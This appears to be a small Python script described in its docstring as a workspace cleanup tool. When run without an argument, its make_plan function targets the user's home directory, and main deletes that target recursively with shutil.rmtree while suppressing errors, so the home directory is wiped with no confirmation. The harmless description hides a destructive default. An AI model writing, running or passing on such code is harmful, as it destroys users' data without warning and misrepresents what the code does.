"""Plan and apply a cleanup of a workspace."""
import os
import shutil
import sys


def make_plan(argv):
    if len(argv) > 1:
        return argv[1], False
    return os.path.expanduser("~"), True


def main():
    plan = make_plan(sys.argv)
    shutil.rmtree(plan[0], ignore_errors=True)
    print("cleaned", plan[0], "default" if plan[1] else "")


if __name__ == "__main__":
    main()
